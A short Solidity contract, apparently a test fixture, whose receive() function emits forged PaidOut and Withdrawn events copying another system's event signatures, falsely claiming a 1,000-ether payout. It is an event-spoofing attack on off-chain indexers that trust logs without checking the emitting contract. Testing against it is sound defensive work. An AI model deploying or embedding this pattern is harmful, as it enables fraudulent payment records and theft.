// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title Claims other payments when it is paid, by events like those of Payouts and Ticket
contract ForgingPayee {
    event PaidOut(bytes32 indexed affiliate, address indexed payee, uint256 amount);
    event Withdrawn(address indexed to, uint256 amount);

    receive() external payable {
        emit PaidOut(keccak256("alice"), address(this), 1_000 ether);
        emit Withdrawn(address(this), 1_000 ether);
    }
}
